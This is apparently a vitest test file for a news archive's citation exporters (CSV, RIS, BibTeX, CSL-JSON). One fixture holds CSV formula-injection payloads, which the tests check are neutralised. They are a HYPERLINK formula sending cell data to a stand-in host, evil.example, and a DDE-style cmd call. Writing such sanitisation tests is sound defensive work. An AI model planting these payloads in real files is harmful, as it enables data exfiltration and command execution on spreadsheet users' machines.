import { describe, expect, it } from 'vitest';
import { recordKey, toBibtex, toCslJson, toCsv, toRis, type ExportRecord } from '../../src/search/export';
import { exportRecord } from '../../src/search/client/export';
import { citeData, readBibtex, readCsv, spreadsheetRuns } from '../support/readers';

const CONTEXT = {
  siteName: 'News Archive',
  searchUrl: 'https://example.org/archive/search/?leader=A&leader=B&kind=call',
};

const CALL: ExportRecord = {
  title: 'Head of State had telephone talk with Tajik President',
  authors: ['Kudrenok Tatyana'],
  published: '2021-05-02T08:10:00+06:00',
  source: 'Kazinform',
  kind: 'Phone call',
  leaders: ['Emomali Rahmon', 'Kassym-Jomart Tokayev'],
  countries: ['Kazakhstan', 'Tajikistan'],
  language: 'English',
  lang: 'en',
  url: 'https://example.org/archive/articles/2021/05/head-of-state-had-telephone-talk/',
};
const ODD: ExportRecord = {
  title: 'Токаев: 100% {braces} & "quotes", line\nbreak',
  authors: [],
  published: '2025-10-09',
  source: 'TASS',
  kind: 'Speech',
  leaders: [],
  countries: ['Russia'],
  language: 'Russian',
  lang: 'ru',
  url: 'https://example.org/archive/articles/2025/10/tokaev/',
};

/** RIS records as maps of tag to values, read by their tags. */
function readRis(text: string): Map<string, string[]>[] {
  const records: Map<string, string[]>[] = [];
  let current: Map<string, string[]> | undefined;
  for (const line of text.split('\r\n')) {
    const match = /^([A-Z][A-Z0-9])  - ?(.*)$/.exec(line);
    if (!match) continue;
    const [, tag = '', value = ''] = match;
    if (tag === 'TY') records.push((current = new Map()));
    if (tag === 'ER') current = undefined;
    else current?.set(tag, [...(current.get(tag) ?? []), value]);
  }
  return records;
}

/** A result whose every text field is a formula, a hostile title or a Cyrillic one. */
const HOSTILE: ExportRecord = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"Click") {unbalanced',
  authors: ["@SUM(1+1)*cmd|' /C calc'!A0", '-2+3'],
  published: '2024-02-14T13:00:00+03:00',
  source: '+Kazinform}',
  kind: 'Interview',
  leaders: ['=Leader'],
  countries: ['\tRussia'],
  language: 'Russian',
  lang: 'ru',
  url: 'https://example.org/archive/articles/2024/02/%D1%82%D0%BE%D0%BA%D0%B0%D0%B5%D0%B2/',
};

describe('toCsv', () => {
  it('writes the header as the first row, one row per result, each with the search it came from', () => {
    const text = toCsv([CALL, ODD], CONTEXT);
    expect(text.startsWith('\uFEFFtitle,authors,')).toBe(true);
    expect(text).not.toMatch(/^\uFEFF?#/);
    const data = readCsv(text);
    expect(data).toHaveLength(2);
    expect(data[0]).toEqual({
      title: CALL.title,
      authors: 'Kudrenok Tatyana',
      published: '2021-05-02T08:10:00+06:00',
      source: 'Kazinform',
      kind: 'Phone call',
      leaders: 'Emomali Rahmon; Kassym-Jomart Tokayev',
      countries: 'Kazakhstan; Tajikistan',
      language: 'English',
      url: CALL.url,
      search_url: CONTEXT.searchUrl,
    });
    expect(data[1]?.['title']).toBe(ODD.title);
  });

  it('writes no cell a spreadsheet would run as a formula, and keeps the text after a mark', () => {
    const [row] = readCsv(toCsv([HOSTILE], CONTEXT));
    for (const [column, cell] of Object.entries(row!)) expect(spreadsheetRuns(cell), column).toBe(false);
    expect(row?.['title']).toBe(`'${HOSTILE.title}`);
    expect(row?.['source']).toBe("'+Kazinform}");
    expect(row?.['countries']).toBe("'\tRussia");
  });
});

describe('toRis', () => {
  it('writes one newspaper article per result, with the date, its offset and every field', () => {
    const text = toRis([CALL, ODD], CONTEXT);
    expect(text.startsWith(`Provider: News Archive\r\nDatabase: ${CONTEXT.searchUrl}\r\n`)).toBe(true);
    const [call, odd] = readRis(text);
    expect(readRis(text)).toHaveLength(2);
    expect(Object.fromEntries(call ?? [])).toEqual({
      TY: ['NEWS'],
      ID: ['head-of-state-had-telephone-talk-2021-05'],
      TI: [CALL.title],
      AU: ['Kudrenok Tatyana'],
      PY: ['2021'],
      DA: ['2021/05/02/08:10:00+06:00'],
      T2: ['Kazinform'],
      M3: ['Phone call'],
      KW: ['Emomali Rahmon', 'Kassym-Jomart Tokayev', 'Kazakhstan', 'Tajikistan'],
      LA: ['English'],
      UR: [CALL.url],
      N1: ['Published 2021-05-02T08:10:00+06:00.'],
    });
    // A value stays on one line; a date without a time has none.
    expect(odd?.get('TI')).toEqual(['Токаев: 100% {braces} & "quotes", line break']);
    expect(odd?.get('DA')).toEqual(['2025/10/09/']);
    expect(odd?.has('AU')).toBe(false);
  });
});

describe('toBibtex', () => {
  it('writes entries two BibTeX parsers read back, one per result', () => {
    const text = toBibtex([CALL, ODD, HOSTILE], CONTEXT);
    expect(text.startsWith('@comment{News Archive search: https://example.org/archive/search/')).toBe(true);
    const entries = readBibtex(text);
    expect(entries.map((e) => e.fields['title'])).toEqual([
      CALL.title,
      'Токаев: 100% {braces} & "quotes", line break',
      HOSTILE.title,
    ]);
    expect(entries[2]?.fields['journaltitle']).toBe('+Kazinform}');
    const items = citeData(text);
    expect(items).toHaveLength(3);
    // A byline is one name, never split into given and family names.
    expect(items[0]).toMatchObject({
      title: CALL.title,
      'container-title': 'Kazinform',
      URL: CALL.url,
      issued: { 'date-parts': [[2021, 5, 2]] },
      author: [{ family: 'Kudrenok Tatyana' }],
    });
  });

  it('dates each entry as biblatex reads it, with no month field', () => {
    const text = toBibtex([CALL], CONTEXT);
    expect(text).toContain('date = {2021-05-02}');
    expect(text).not.toMatch(/month\s*=/);
  });
});

describe('recordKey', () => {
  it('is the key of the article page: file name (in ASCII), year and month of the URL', () => {
    expect(recordKey(CALL)).toBe('head-of-state-had-telephone-talk-2021-05');
    expect(recordKey(HOSTILE)).toBe('tokaev-2024-02');
  });

  it('keys two results of one name in one month apart within a file', () => {
    const twin = { ...CALL, title: 'Another' };
    const keys = readBibtex(toBibtex([CALL, twin], CONTEXT)).map((e) => e.key);
    expect(keys).toEqual([
      'head-of-state-had-telephone-talk-2021-05',
      'head-of-state-had-telephone-talk-2021-05-2',
    ]);
  });
});

describe('toCslJson', () => {
  it('writes newspaper articles that citation-js reads, with the search in each note', () => {
    const text = toCslJson([CALL, ODD], CONTEXT);
    const items = citeData(JSON.parse(text));
    expect(items).toHaveLength(2);
    expect(items[0]).toMatchObject({
      id: 'head-of-state-had-telephone-talk-2021-05',
      type: 'article-newspaper',
      title: CALL.title,
      author: [{ literal: 'Kudrenok Tatyana' }],
      'container-title': 'Kazinform',
      issued: { 'date-parts': [[2021, 5, 2]] },
      genre: 'Phone call',
      language: 'en',
      URL: CALL.url,
    });
    expect(items[0]?.['note']).toBe(
      `Published 2021-05-02T08:10:00+06:00. From the News Archive search: ${CONTEXT.searchUrl}`,
    );
    expect(items[1]).not.toHaveProperty('author');
  });
});

describe('exportRecord', () => {
  it('reads a record from a result’s index record, with the permanent URL under the site', () => {
    const data = {
      url: '/archive/articles/2024/02/intervyu-tokaeva/',
      excerpt: '',
      content: '',
      locations: [],
      meta: { title: 'Интервью', datetime: '2024-02-14T13:00:00+03:00', source: 'TASS', lang: 'ru' },
      filters: {
        kind: ['interview'],
        leader: ['Vladimir Putin', 'Kassym-Jomart Tokayev'],
        country: ['Kazakhstan'],
        language: ['Russian'],
      },
    };
    expect(exportRecord(data, 'https://news.example.org')).toEqual({
      title: 'Интервью',
      authors: [],
      published: '2024-02-14T13:00:00+03:00',
      source: 'TASS',
      kind: 'Interview',
      leaders: ['Kassym-Jomart Tokayev', 'Vladimir Putin'],
      countries: ['Kazakhstan'],
      language: 'Russian',
      lang: 'ru',
      url: 'https://news.example.org/archive/articles/2024/02/intervyu-tokaeva/',
    });
    expect(
      exportRecord({ ...data, meta: { ...data.meta, author: 'A. Writer' } }, 'https://x.org').authors,
    ).toEqual(['A. Writer']);
  });
});
